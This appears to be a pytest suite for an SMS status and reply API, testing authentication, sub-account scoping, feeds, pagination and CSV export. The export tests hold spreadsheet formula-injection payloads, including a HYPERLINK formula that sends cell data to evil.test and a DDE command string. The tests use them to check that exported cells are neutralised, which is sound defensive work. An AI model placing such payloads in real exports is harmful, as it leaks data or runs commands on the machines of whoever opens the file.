"""The read API as its users meet it: Wavy's paths and shapes, authentication, sub-account
scoping on every endpoint, consume-once lists, complete feeds, windows and pagination."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest
from fastapi import FastAPI
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from app.api import downloads
from app.api.schemas import StatusOut
from app.db import users
from app.rules.scope import Role
from app.rules.spreadsheet_csv import spreadsheet_safe
from app.settings import Settings
from tests.conftest import add_key, free_port, serving

WAVY_STATUS_FIELDS = {
    "id",
    "correlationId",
    "carrierId",
    "carrierName",
    "destination",
    "sentStatusCode",
    "sentStatus",
    "sentAt",
    "sentDate",
    "sentStatusAt",
    "sentStatusDate",
    "updatedAt",
    "updatedDate",
    "deliveredStatusCode",
    "deliveredStatus",
    "deliveredAt",
    "deliveredDate",
    "campaignId",
    "extraInfo",
}
WAVY_MO_FIELDS = {
    "id",
    "subAccount",
    "campaignAlias",
    "carrierId",
    "carrierName",
    "source",
    "shortCode",
    "messageText",
    "receivedAt",
    "receivedDate",
    "mt",
}


class World:
    """An admin, a user of acme, a user of globex, and webhook keys for acme, globex and none."""

    def __init__(self, client: httpx.AsyncClient) -> None:
        self.client = client
        self.headers: dict[str, dict[str, str]] = {}
        self.keys: dict[str | None, str] = {}

    async def post(self, kind: str, body: Any, sub: str | None = "acme") -> None:
        response = await self.client.post(
            f"/v1/webhooks/{kind}", params={"key": self.keys[sub]}, json=body
        )
        assert response.status_code == 200, response.text

    async def get(self, who: str, path: str, **params: Any) -> httpx.Response:
        return await self.client.get(path, headers=self.headers[who], params=params)

    async def ok(self, who: str, path: str, **params: Any) -> Any:
        response = await self.get(who, path, **params)
        assert response.status_code == 200, response.text
        return response.json()


@pytest.fixture
async def world(app: FastAPI, client: httpx.AsyncClient) -> World:
    w = World(client)
    async with app.state.engine.begin() as conn:
        for name, role, sub, email in (
            ("boss", Role.ADMIN, None, "Boss@Example.com"),
            ("ana", Role.USER, "acme", "ana@acme.test"),
            ("gil", Role.USER, "globex", None),
        ):
            token = await users.add_user(
                conn, username=name, role=role, sub_account=sub, email=email, token=None
            )
            w.headers[name] = {"UserName": name, "AuthenticationToken": token}
    for sub in ("acme", "globex", None):
        w.keys[sub] = await add_key(app, sub)
    return w


def dlr(message_id: str, code: int = 4, **fields: Any) -> dict[str, Any]:
    return {
        "id": message_id,
        "sentStatusCode": 2,
        "deliveredStatusCode": code,
        "deliveredAt": 1420732954000,
        **fields,
    }


def mo(
    mo_id: str, sub: str | None, received_ms: int = 1473088405588, **fields: Any
) -> dict[str, Any]:
    return {
        "id": mo_id,
        "subAccount": sub,
        "messageText": f"reply {mo_id}",
        "receivedAt": received_ms,
        **fields,
    }


# --- authentication -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "headers",
    [
        {},
        {"UserName": "ana"},
        {"AuthenticationToken": "x" * 32},
        {"UserName": "ana", "AuthenticationToken": "wrong-token-wrong-token"},
        {"UserName": "nobody", "AuthenticationToken": "wrong-token-wrong-token"},
    ],
)
async def test_every_authentication_failure_gets_the_same_401(
    world: World, headers: dict[str, str]
) -> None:
    response = await world.client.get("/v1/sms/receive/list", headers=headers)

    assert response.status_code == 401
    assert response.json() == {
        "error": {
            "code": "unauthorized",
            "message": "valid UserName and AuthenticationToken headers are required",
        }
    }


async def test_disabled_user_gets_the_same_401(app: FastAPI, world: World) -> None:
    async with app.state.engine.begin() as conn:
        await users.disable_user(conn, "ana")

    response = await world.get("ana", "/v1/sms/receive/list")

    assert response.status_code == 401
    assert response.json()["error"]["code"] == "unauthorized"


async def test_rotated_token_replaces_the_old_one(app: FastAPI, world: World) -> None:
    async with app.state.engine.begin() as conn:
        new_token = await users.rotate_token(conn, "ana")

    old = await world.get("ana", "/v1/sms/receive/list")
    new = await world.client.get(
        "/v1/sms/receive/list", headers={"UserName": "ana", "AuthenticationToken": new_token or ""}
    )

    assert (old.status_code, new.status_code) == (401, 200)


async def refused_within(world: World, who: str, seconds: float) -> tuple[int, float]:
    """Polls /v1/me as ``who`` until refused or ``seconds`` pass: (last status, time taken)."""
    started = time.monotonic()
    while True:
        status = (await world.get(who, "/v1/me")).status_code
        if status != 200 or time.monotonic() - started > seconds:
            return status, time.monotonic() - started
        await asyncio.sleep(0.05)


async def test_a_logged_in_user_disabled_by_hand_is_refused_at_once(
    app: FastAPI, world: World
) -> None:
    """Workers remember logins (for 60 s in these tests); PostgreSQL tells them when the users
    change, however they were changed."""
    assert (await world.get("ana", "/v1/me")).status_code == 200
    async with app.state.engine.begin() as conn:
        await conn.execute(text("UPDATE users SET disabled_at = now() WHERE username = 'ana'"))

    status, took = await refused_within(world, "ana", seconds=5)

    assert status == 401
    assert took < 5  # not the cache's 60 s: the notification (milliseconds, on a quiet machine)


async def test_a_logged_in_users_replaced_token_is_refused_at_once(
    app: FastAPI, world: World
) -> None:
    assert (await world.get("ana", "/v1/me")).status_code == 200
    async with app.state.engine.begin() as conn:
        new_token = await users.rotate_token(conn, "ana")

    status, took = await refused_within(world, "ana", seconds=5)
    world.headers["ana"]["AuthenticationToken"] = new_token or ""

    assert (status, took < 5) == (401, True)
    assert (await world.get("ana", "/v1/me")).status_code == 200


async def test_where_no_notification_arrives_a_login_is_trusted_until_the_cache_ages_out(
    app: FastAPI, world: World
) -> None:
    """What a transaction-mode pooler (which drops notifications) leaves: the cache's age
    (WAVY_READER_CACHE_SECONDS, 60 s in these tests) bounds how long a change takes."""
    assert (await world.get("ana", "/v1/me")).status_code == 200
    async with app.state.engine.begin() as conn:
        await conn.execute(text("ALTER TABLE users DISABLE TRIGGER users_changed"))
        await conn.execute(text("UPDATE users SET disabled_at = now() WHERE username = 'ana'"))
        await conn.execute(text("ALTER TABLE users ENABLE TRIGGER users_changed"))
    await asyncio.sleep(0.3)  # time enough for a notification, were there one

    remembered = (await world.get("ana", "/v1/me")).status_code
    app.state.readers.forget()  # as the cache's age would, after 60 s
    checked_again = (await world.get("ana", "/v1/me")).status_code

    assert (remembered, checked_again) == (200, 401)


async def test_header_names_are_case_insensitive_and_email_logs_in(world: World) -> None:
    token = world.headers["boss"]["AuthenticationToken"]

    lower = await world.client.get(
        "/v1/sms/receive/list", headers={"username": "boss", "authenticationtoken": token}
    )
    by_email = await world.client.get(
        "/v1/sms/receive/list",
        headers={"USERNAME": "boss@example.COM", "AUTHENTICATIONTOKEN": token},
    )

    assert lower.status_code == 200
    assert by_email.status_code == 200


# --- scoping --------------------------------------------------------------------------------


async def seed_statuses(world: World) -> None:
    await world.post("dlr", dlr("a-1", correlationId="order-1"), "acme")
    await world.post("dlr", dlr("g-1", correlationId="order-1"), "globex")
    await world.post("dlr", dlr("n-1", correlationId="order-1"), None)


async def test_search_returns_wavy_fields_and_only_the_callers_sub_account(world: World) -> None:
    await seed_statuses(world)
    body = {"ids": ["a-1", "g-1", "n-1", "unknown"], "correlationIds": ["order-1"]}

    ana = await world.client.post("/v1/sms/status/search", headers=world.headers["ana"], json=body)
    boss = await world.client.post(
        "/v1/sms/status/search", headers=world.headers["boss"], json=body
    )

    [status] = ana.json()["smsStatuses"]
    assert status["id"] == "a-1"
    assert set(status) >= WAVY_STATUS_FIELDS
    assert status["deliveredAt"] == 1420732954000
    assert status["deliveredDate"] == "2015-01-08T16:02:34.000Z"
    assert ana.json()["total"] == 1
    # unknown ids are absent
    assert sorted(s["id"] for s in boss.json()["smsStatuses"]) == ["a-1", "g-1", "n-1"]


@pytest.mark.parametrize(
    "at_ms",
    [0, 1420732954000, 8781553033008, 34821562270270, 139422745344511, 253402300799999],
)
async def test_epoch_milliseconds_come_back_exactly_as_wavy_sent_them(
    world: World, at_ms: int
) -> None:
    """Every time Wavy may send (1970 to the end of year 9999) is stored and answered to the
    millisecond; some of these came back a millisecond or a few microseconds off when the
    conversions went through floats."""
    await world.post("dlr", dlr("t-1", sentAt=at_ms, deliveredAt=at_ms))

    [status] = (
        await world.client.post(
            "/v1/sms/status/search", headers=world.headers["ana"], json={"ids": ["t-1"]}
        )
    ).json()["smsStatuses"]

    assert (status["sentAt"], status["sentStatusAt"], status["deliveredAt"]) == (at_ms,) * 3
    assert status["sentDate"] == status["sentStatusDate"] == iso_of(at_ms)
    assert status["deliveredDate"] == iso_of(at_ms)


def iso_of(at_ms: int) -> str:
    moment = datetime(1970, 1, 1, tzinfo=UTC) + timedelta(milliseconds=at_ms)
    return moment.isoformat(timespec="milliseconds").replace("+00:00", "Z")


async def test_admin_narrows_with_sub_account_and_a_user_cannot_widen(world: World) -> None:
    await seed_statuses(world)

    narrowed = await world.client.post(
        "/v1/sms/status/search",
        headers=world.headers["boss"],
        params={"subAccount": "globex"},
        json={"correlationIds": ["order-1"]},
    )
    forbidden = await world.client.post(
        "/v1/sms/status/search",
        headers=world.headers["ana"],
        params={"subAccount": "globex"},
        json={"ids": ["g-1"]},
    )
    own = await world.get("ana", "/v1/sms/status/list", subAccount="acme")

    assert [s["id"] for s in narrowed.json()["smsStatuses"]] == ["g-1"]
    assert forbidden.status_code == 403
    assert forbidden.json()["error"]["code"] == "forbidden"
    assert own.status_code == 200


async def test_search_refuses_more_than_1000_ids(world: World) -> None:
    response = await world.client.post(
        "/v1/sms/status/search", headers=world.headers["boss"], json={"ids": ["x"] * 1001}
    )

    assert response.status_code == 422


async def test_status_detail_has_history_and_replies_and_hides_other_sub_accounts(
    world: World,
) -> None:
    await world.post("callback", {"id": "a-1", "sentStatusCode": 2, "extra": "kept"}, "acme")
    await world.post("dlr", dlr("a-1", code=104), "acme")
    await world.post("dlr", dlr("g-1"), "globex")
    await world.post("mo", mo("r-acme", "acme", mt={"id": "a-1"}), "acme")
    await world.post("mo", mo("r-globex", "globex", mt={"id": "a-1"}), "globex")

    mine = await world.ok("ana", "/v1/sms/status/a-1")
    theirs = await world.get("ana", "/v1/sms/status/g-1")
    as_admin = await world.ok("boss", "/v1/sms/status/a-1")

    assert [e["kind"] for e in mine["events"]] == ["callback", "dlr"]
    assert mine["events"][0]["payload"]["extra"] == "kept"
    assert mine["deliveredStatusCode"] == 104
    assert [r["id"] for r in mine["replies"]] == ["r-acme"]
    assert theirs.status_code == 404
    # A reply from another sub-account's key does not answer this message, for the admin
    # either: it would count in its reply figures (it stays in globex's own replies).
    assert [r["id"] for r in as_admin["replies"]] == ["r-acme"]


async def test_data_without_sub_account_is_for_admins_only(world: World) -> None:
    await world.post("dlr", dlr("n-1"), None)
    await world.post("mo", mo("r-none", None), None)

    assert (await world.get("ana", "/v1/sms/status/n-1")).status_code == 404
    assert (await world.ok("ana", "/v1/sms/receive/changes"))["items"] == []
    assert (await world.ok("boss", "/v1/sms/status/n-1"))["id"] == "n-1"
    assert [m["id"] for m in (await world.ok("boss", "/v1/sms/receive/changes"))["items"]] == [
        "r-none"
    ]


# --- consume-on-read lists ------------------------------------------------------------------


async def test_status_list_returns_changes_once_and_again_when_the_status_changes(
    world: World,
) -> None:
    await world.post("callback", {"id": "a-1", "sentStatusCode": 2}, "acme")
    await world.post("callback", {"id": "a-2", "sentStatusCode": 2}, "acme")
    await world.post("callback", {"id": "g-1", "sentStatusCode": 2}, "globex")

    first = await world.ok("ana", "/v1/sms/status/list")
    second = await world.ok("ana", "/v1/sms/status/list")
    await world.post("dlr", dlr("a-1"), "acme")
    third = await world.ok("ana", "/v1/sms/status/list")
    gil = await world.ok("gil", "/v1/sms/status/list")

    assert [s["id"] for s in first["smsStatuses"]] == ["a-1", "a-2"]  # oldest change first
    assert first["total"] == 2
    assert second["smsStatuses"] == []
    assert second["total"] == 0
    assert second["start"] <= second["end"]
    assert [(s["id"], s["deliveredStatusCode"]) for s in third["smsStatuses"]] == [("a-1", 4)]
    assert [s["id"] for s in gil["smsStatuses"]] == ["g-1"]  # every user has their own position


async def test_status_list_respects_limit(world: World) -> None:
    await world.post("callback", [{"id": f"a-{i}"} for i in range(5)], "acme")

    pages = [await world.ok("ana", "/v1/sms/status/list", limit=2) for _ in range(4)]

    assert [len(page["smsStatuses"]) for page in pages] == [2, 2, 1, 0]


async def test_receive_list_has_wavys_envelope_and_consumes(world: World) -> None:
    await world.post("mo", [mo("r-1", "acme"), mo("r-2", "acme"), mo("r-3", "globex")], None)

    first = await world.ok("ana", "/v1/sms/receive/list")
    second = await world.ok("ana", "/v1/sms/receive/list")

    assert first["total"] == 2
    assert {"total", "start", "end", "messages"} <= set(first)
    assert [m["id"] for m in first["messages"]] == ["r-1", "r-2"]
    assert set(first["messages"][0]) >= WAVY_MO_FIELDS
    assert second["total"] == 0


async def test_admin_receive_list_narrowed_to_one_sub_account(world: World) -> None:
    await world.post("mo", [mo("r-1", "acme"), mo("r-3", "globex")], None)

    narrowed = await world.ok("boss", "/v1/sms/receive/list", subAccount="globex")

    assert [m["id"] for m in narrowed["messages"]] == ["r-3"]


async def test_two_concurrent_readers_of_one_user_never_get_the_same_mo(world: World) -> None:
    posted = {f"r-{i}" for i in range(300)}
    await world.post("mo", [mo(i, "acme") for i in sorted(posted)], "acme")

    async def drain() -> list[str]:
        got: list[str] = []
        while True:
            page = await world.ok("ana", "/v1/sms/receive/list", limit=7)
            if not page["messages"]:
                return got
            got += [m["id"] for m in page["messages"]]

    first, second = await asyncio.gather(drain(), drain())

    assert not set(first) & set(second)  # none twice
    assert set(first) | set(second) == posted  # none skipped
    assert len(first) + len(second) == len(posted)


# --- safe feeds -----------------------------------------------------------------------------


async def read_feed(
    world: World, who: str, path: str, after: str | None, limit: int
) -> tuple[list[str], str]:
    params: dict[str, Any] = {"limit": limit}
    if after:
        params["after"] = after
    page = await world.ok(who, path, **params)
    return [item["id"] for item in page["items"]], page["next"]


async def test_feed_sees_every_mo_exactly_once_while_they_arrive(world: World) -> None:
    posted = [f"f-{i:04d}" for i in range(400)]

    async def produce() -> None:
        for start in range(0, len(posted), 10):
            await asyncio.gather(
                *(world.post("mo", mo(i, "acme"), "acme") for i in posted[start : start + 10])
            )

    seen: list[str] = []
    cursor: str | None = None
    producer = asyncio.create_task(produce())
    while not producer.done():
        ids, cursor = await read_feed(world, "ana", "/v1/sms/receive/changes", cursor, 13)
        seen += ids
    await producer
    while True:  # catch up with what committed last
        ids, cursor = await read_feed(world, "ana", "/v1/sms/receive/changes", cursor, 13)
        if not ids:
            break
        seen += ids

    assert len(seen) == len(set(seen)), "an MO came twice"
    assert set(seen) == set(posted), "an MO was skipped"


async def test_status_feed_is_a_pure_read_and_brings_changed_messages_again(
    world: World,
) -> None:
    await world.post("callback", [{"id": "a-1"}, {"id": "a-2"}], "acme")
    await world.post("callback", {"id": "g-1"}, "globex")

    ids, cursor = await read_feed(world, "ana", "/v1/sms/status/changes", None, 10)
    again, same_cursor = await read_feed(world, "ana", "/v1/sms/status/changes", None, 10)
    nothing, unchanged = await read_feed(world, "ana", "/v1/sms/status/changes", cursor, 10)
    await world.post("dlr", dlr("a-2"), "acme")
    changed, _ = await read_feed(world, "ana", "/v1/sms/status/changes", cursor, 10)

    assert ids == ["a-1", "a-2"]
    assert (again, same_cursor) == (ids, cursor)  # nothing consumed
    assert (nothing, unchanged) == ([], cursor)
    assert changed == ["a-2"]


async def test_a_reader_waiting_on_the_feed_gets_a_reply_as_soon_as_it_is_stored(
    world: World,
) -> None:
    await world.post("mo", mo("w-1", "acme"), "acme")
    _, cursor = await read_feed(world, "ana", "/v1/sms/receive/changes", None, 10)

    started = time.monotonic()
    waiting = asyncio.create_task(world.ok("ana", "/v1/sms/receive/changes", after=cursor, wait=8))
    await asyncio.sleep(0.5)
    assert not waiting.done()  # nothing new yet: the answer is held back
    await world.post("mo", [mo("w-2", "acme"), mo("w-3", "globex")], None)
    page = await waiting

    assert [item["id"] for item in page["items"]] == ["w-2"]  # w-3 is globex's
    assert time.monotonic() - started < 6  # before the 8 s were up


async def test_a_new_reader_starting_at_the_latest_skips_the_history_and_gets_what_follows(
    world: World,
) -> None:
    await world.post("mo", [mo("old-1", "acme"), mo("old-2", "acme")], "acme")
    await world.post("callback", {"id": "old-m"}, "acme")

    replies = await world.ok("ana", "/v1/sms/receive/changes", start="latest")
    statuses = await world.ok("ana", "/v1/sms/status/changes", start="latest")
    waiting = asyncio.create_task(
        world.ok("ana", "/v1/sms/receive/changes", start="latest", wait=8)
    )
    await asyncio.sleep(0.5)
    await world.post("mo", mo("new-1", "acme"), "acme")
    await world.post("callback", {"id": "new-m"}, "acme")
    woken = await waiting
    later_replies = await world.ok("ana", "/v1/sms/receive/changes", after=replies["next"])
    later_statuses = await world.ok("ana", "/v1/sms/status/changes", after=statuses["next"])
    both = await world.get("ana", "/v1/sms/receive/changes", start="latest", after=replies["next"])

    assert (replies["items"], statuses["items"]) == ([], [])  # the history is skipped
    assert [item["id"] for item in woken["items"]] == ["new-1"]
    assert [item["id"] for item in later_replies["items"]] == ["new-1"]
    assert [item["id"] for item in later_statuses["items"]] == ["new-m"]
    assert (both.status_code, both.json()["error"]["code"]) == (422, "invalid_start")


async def test_a_waiting_reader_with_nothing_new_is_answered_when_the_wait_is_up(
    world: World,
) -> None:
    await world.post("callback", {"id": "a-1"}, "acme")
    _, cursor = await read_feed(world, "ana", "/v1/sms/status/changes", None, 10)
    await world.post("callback", {"id": "g-1"}, "globex")  # not ana's to see

    started = time.monotonic()
    page = await world.ok("ana", "/v1/sms/status/changes", after=cursor, wait=1)
    waited = time.monotonic() - started
    too_long = await world.get("ana", "/v1/sms/status/changes", after=cursor, wait=11)

    assert page == {"items": [], "next": cursor}
    assert waited >= 1
    assert too_long.status_code == 422


@pytest.mark.parametrize("cursor", ["garbage", "W10", "WyJhIiwxXQ", "Wy0xLC0xXQ"])
async def test_tampered_cursors_get_422(world: World, cursor: str) -> None:
    for path, name in (
        ("/v1/sms/status/changes", "after"),
        ("/v1/sms/receive/changes", "after"),
        ("/v1/sms/receive/search", "cursor"),
        ("/v1/sms/status", "cursor"),
    ):
        response = await world.get("ana", path, **{name: cursor})
        assert response.status_code == 422, (path, response.text)
        assert response.json()["error"]["code"] == "invalid_cursor"


# --- windows and listings -------------------------------------------------------------------


async def test_receive_search_window_edges_are_inclusive_in_any_time_zone(world: World) -> None:
    base = 1_700_000_000_000  # 2023-11-14T22:13:20Z
    await world.post(
        "mo",
        [
            mo("before", "acme", base - 1),
            mo("at-start", "acme", base),
            mo("at-end", "acme", base + 60_000),
            mo("after", "acme", base + 60_001),
        ],
        "acme",
    )

    utc = await world.ok(
        "ana", "/v1/sms/receive/search", start="2023-11-14T22:13:20Z", end="2023-11-14T22:14:20Z"
    )
    sao_paulo = await world.ok(
        "ana",
        "/v1/sms/receive/search",
        start="2023-11-14T19:13:20-03:00",
        end="2023-11-14T19:14:20-03:00",
    )
    naive = await world.ok(
        "ana", "/v1/sms/receive/search", start="2023-11-14T22:13:20", end="2023-11-14T22:14:20"
    )

    assert [m["id"] for m in utc["messages"]] == ["at-start", "at-end"]
    assert sao_paulo["messages"] == utc["messages"]
    assert naive["messages"] == utc["messages"]
    assert utc["start"] == "2023-11-14T22:13:20.000Z"


async def test_receive_search_defaults_to_the_last_five_days(world: World) -> None:
    import time

    now_ms = int(time.time() * 1000)
    day = 86_400_000
    await world.post(
        "mo", [mo("recent", "acme", now_ms - day), mo("old", "acme", now_ms - 6 * day)], "acme"
    )

    found = await world.ok("ana", "/v1/sms/receive/search")

    assert [m["id"] for m in found["messages"]] == ["recent"]


async def test_receive_search_pages_beyond_the_limit_with_a_cursor(world: World) -> None:
    base = 1_700_000_000_000
    # Equal times on purpose: the cursor must break ties without skipping or repeating.
    await world.post("mo", [mo(f"p-{i:02d}", "acme", base + (i // 3)) for i in range(25)], "acme")

    seen: list[str] = []
    params: dict[str, Any] = {
        "start": "2023-11-14T00:00:00Z",
        "end": "2023-11-15T00:00:00Z",
        "limit": 10,
    }
    while True:
        page = await world.ok("ana", "/v1/sms/receive/search", **params)
        seen += [m["id"] for m in page["messages"]]
        if not page.get("next"):
            break
        params["cursor"] = page["next"]

    assert seen == [f"p-{i:02d}" for i in range(25)]


async def test_receive_search_start_after_end_is_422(world: World) -> None:
    response = await world.get(
        "ana", "/v1/sms/receive/search", start="2023-11-15T00:00:00Z", end="2023-11-14T00:00:00Z"
    )

    assert response.status_code == 422


async def test_dashboard_listing_filters_and_pages_newest_first(world: World) -> None:
    for i in range(7):
        await world.post(
            "dlr",
            dlr(
                f"a-{i}",
                code=4 if i % 2 else 104,
                carrierName="VIVO" if i < 5 else "TIM",
                campaignId=64,
            ),
            "acme",
        )
    await world.post("dlr", dlr("g-1", carrierName="VIVO"), "globex")

    first = await world.ok("ana", "/v1/sms/status", carrierName="VIVO", limit=2)
    second = await world.ok(
        "ana", "/v1/sms/status", carrierName="VIVO", limit=2, cursor=first["next"]
    )
    failed = await world.ok("ana", "/v1/sms/status", deliveredStatusCode=104, campaignId="64")

    assert [s["id"] for s in first["items"]] == ["a-4", "a-3"]
    assert [s["id"] for s in second["items"]] == ["a-2", "a-1"]
    assert [s["id"] for s in failed["items"]] == ["a-6", "a-4", "a-2", "a-0"]
    assert failed["next"] is None


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    return list(csv.DictReader(io.StringIO(response.text)))


def as_csv_cell(value: Any) -> str:
    return "" if value is None else str(value)


async def test_export_has_every_status_the_filters_select_newest_first_across_pages(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "EXPORT_PAGE_ROWS", 2)  # 5 rows: three pages
    for i in range(7):
        carrier = "VIVO" if i < 5 else "TIM"
        await world.post("dlr", dlr(f"a-{i}", carrierName=carrier, campaignId=64), "acme")
    await world.post("dlr", dlr("g-1", carrierName="VIVO"), "globex")

    response = await world.get("ana", "/v1/sms/status/export", carrierName="VIVO")
    listing = await world.ok("ana", "/v1/sms/status", carrierName="VIVO")
    header = response.text.split("\r\n", 1)[0].split(",")
    rows = csv_rows(response)

    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith('attachment; filename="statuses-')
    assert header == list(StatusOut.model_fields)  # the listing's fields, in its order
    assert [row["id"] for row in rows] == ["a-4", "a-3", "a-2", "a-1", "a-0"]
    assert rows == [
        {name: as_csv_cell(value) for name, value in item.items()} for item in listing["items"]
    ]


async def test_export_is_scoped_like_the_listing(world: World) -> None:
    await world.post("dlr", dlr("a-1"), "acme")
    await world.post("dlr", dlr("g-1"), "globex")
    await world.post("dlr", dlr("n-1"), None)

    gil = csv_rows(await world.get("gil", "/v1/sms/status/export"))
    boss = csv_rows(await world.get("boss", "/v1/sms/status/export"))
    boss_acme = csv_rows(await world.get("boss", "/v1/sms/status/export", subAccount="acme"))
    widening = await world.get("ana", "/v1/sms/status/export", subAccount="globex")
    anonymous = await world.client.get("/v1/sms/status/export")
    nothing = await world.get("ana", "/v1/sms/status/export", campaignId="none-such")

    assert [row["id"] for row in gil] == ["g-1"]
    assert {row["id"] for row in boss} == {"a-1", "g-1", "n-1"}
    assert [row["id"] for row in boss_acme] == ["a-1"]
    assert (widening.status_code, anonymous.status_code) == (403, 401)
    assert nothing.status_code == 200
    assert nothing.text == ",".join(StatusOut.model_fields) + "\r\n"  # the header alone


async def test_export_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(
    world: World,
) -> None:
    await world.post(
        "dlr",
        dlr(
            "f-1",
            correlationId='=HYPERLINK("http://evil.test/?"&A1,"open")',
            extraInfo="@SUM(1+1)",
            destination="+5511999990000",
            campaignId="-7",
        ),
        "acme",
    )

    (row,) = csv_rows(await world.get("ana", "/v1/sms/status/export"))

    assert row["correlationId"] == '\'=HYPERLINK("http://evil.test/?"&A1,"open")'
    assert row["extraInfo"] == "'@SUM(1+1)"
    assert row["destination"] == "+5511999990000"  # a phone number is no formula
    assert row["campaignId"] == "-7"


async def test_export_for_a_decimal_comma_spreadsheet_splits_by_semicolons_and_marks_utf8(
    world: World,
) -> None:
    await world.post(
        "dlr", dlr("s-1", carrierName="Claro; Net", extraInfo="Não entregue, reenviar"), "acme"
    )

    response = await world.get("ana", "/v1/sms/status/export", delimiter="semicolon", bom="true")
    default = await world.get("ana", "/v1/sms/status/export")

    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeffid;".encode())  # Excel reads it as UTF-8
    (row,) = csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    assert (row["id"], row["carrierName"]) == ("s-1", "Claro; Net")  # quoted, kept whole
    assert row["extraInfo"] == "Não entregue, reenviar"
    assert default.content.startswith(b"id,")  # programs get plain UTF-8 by default


async def test_reply_export_by_tabs_and_an_unknown_delimiter_is_refused(world: World) -> None:
    await world.post("mo", mo("r-1", "acme", messageText="Sim\tobrigado, até logo"))
    window = {"start": iso_ms(1473088405588 - 1000)}

    tabbed = await world.get("ana", "/v1/sms/receive/export", delimiter="tab", **window)
    pipes = await world.get("ana", "/v1/sms/receive/export", delimiter="|", **window)

    (row,) = csv.DictReader(io.StringIO(tabbed.text), delimiter="\t")
    assert row["messageText"] == "Sim\tobrigado, até logo"
    assert tabbed.text.split("\r\n", 1)[0].split("\t")[:2] == ["id", "subAccount"]
    assert (pipes.status_code, pipes.json()["error"]["code"]) == (422, "validation_failed")


def iso_ms(epoch_ms: int) -> str:
    return datetime.fromtimestamp(epoch_ms / 1000, UTC).isoformat()


def flattened(mo: dict[str, Any]) -> dict[str, str]:
    """A /receive/search MO as the export writes it: the MT spread over mt.* columns."""
    mt = mo.pop("mt") or {}
    cells = {**mo, **{f"mt.{name}": mt.get(name) for name in ("id", "correlationId")}}
    cells |= {f"mt.{name}": mt.get(name) for name in ("username", "email")}
    return {name: as_csv_cell(value) for name, value in cells.items()}


async def test_reply_export_has_every_mo_of_the_window_oldest_first_across_pages(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(downloads, "EXPORT_PAGE_ROWS", 2)  # 5 rows: three pages
    base = 1_764_000_000_000
    for i in reversed(range(5)):
        answers = {"mt": {"id": f"m-{i}", "correlationId": f"c-{i}"}} if i % 2 else {}
        await world.post("mo", mo(f"r-{i}", "acme", base + i * 1000, **answers), "acme")
    await world.post("mo", mo("r-later", "acme", base + 86_400_000), "acme")
    await world.post("mo", mo("g-1", "globex", base), "globex")
    window = {"start": iso_ms(base), "end": iso_ms(base + 60_000)}

    response = await world.get("ana", "/v1/sms/receive/export", **window)
    search = await world.ok("ana", "/v1/sms/receive/search", **window)
    header = response.text.split("\r\n", 1)[0].split(",")
    rows = csv_rows(response)

    assert response.headers["content-disposition"].startswith('attachment; filename="replies-')
    assert header[-4:] == ["mt.id", "mt.correlationId", "mt.username", "mt.email"]
    assert [row["id"] for row in rows] == ["r-0", "r-1", "r-2", "r-3", "r-4"]
    assert rows == [flattened(item) for item in search["messages"]]
    assert (rows[1]["mt.id"], rows[2]["mt.id"]) == ("m-1", "")


async def test_reply_export_is_scoped_and_its_replies_cannot_run_as_formulas(
    world: World,
) -> None:
    await world.post("mo", mo("r-1", "acme", messageText='=WEBSERVICE("http://evil.test")'))
    await world.post("mo", mo("r-2", "acme", messageText="+55 11 9999-0000"))
    await world.post("mo", mo("g-1", "globex"), "globex")
    window = {"start": iso_ms(1473088405588 - 1000)}

    ana = csv_rows(await world.get("ana", "/v1/sms/receive/export", **window))
    widening = await world.get("ana", "/v1/sms/receive/export", subAccount="globex", **window)
    backwards = await world.get(
        "ana", "/v1/sms/receive/export", start="2026-01-02T00:00:00Z", end="2026-01-01T00:00:00Z"
    )

    assert {row["id"] for row in ana} == {"r-1", "r-2"}
    texts = {row["id"]: row["messageText"] for row in ana}
    assert texts == {"r-1": '\'=WEBSERVICE("http://evil.test")', "r-2": "'+55 11 9999-0000"}
    assert widening.status_code == 403
    assert (backwards.status_code, backwards.json()["error"]["code"]) == (422, "invalid_window")


async def test_replies_containing_a_keyword_are_found_in_any_case_and_only_in_scope(
    world: World,
) -> None:
    texts = {
        "k-1": "Quero SAIR da lista",
        "k-2": "sair",
        "k-3": "Sim, obrigado",
        "k-4": "100% satisfeito",
        "k-5": "a_b",
    }
    await world.post("mo", [mo(i, "acme", messageText=t) for i, t in texts.items()], "acme")
    await world.post("mo", mo("g-1", "globex", messageText="SAIR"), "globex")
    window = {"start": iso_ms(1473088405588 - 1000)}

    def ids(page: dict[str, Any]) -> list[str]:
        return [item["id"] for item in page["messages"]]

    opt_outs = await world.ok("ana", "/v1/sms/receive/search", text="sair", **window)
    percent = await world.ok("ana", "/v1/sms/receive/search", text="100%", **window)
    underscore = await world.ok("ana", "/v1/sms/receive/search", text="_", **window)
    exported = csv_rows(await world.get("ana", "/v1/sms/receive/export", text="SAIR", **window))
    everyone = await world.ok("boss", "/v1/sms/receive/search", text="sair", **window)

    assert ids(opt_outs) == ["k-1", "k-2"]
    assert ids(percent) == ["k-4"]  # % and _ are the text's own, not wildcards
    assert ids(underscore) == ["k-5"]
    assert [row["id"] for row in exported] == ["k-1", "k-2"]
    assert sorted(ids(everyone)) == ["g-1", "k-1", "k-2"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+5511999990000", "+5511999990000"),
        ("-3.5", "-3.5"),
        ("a=b", "a=b"),
        (42, 42),
        (None, None),
    ],
)
def test_spreadsheet_safe_quotes_only_what_would_run(value: object, written: object) -> None:
    assert spreadsheet_safe(value) == written


async def test_injection_attempts_in_parameters_are_just_values(
    world: World, engine: AsyncEngine
) -> None:
    await world.post("dlr", dlr("a-1", correlationId="x"), "acme")

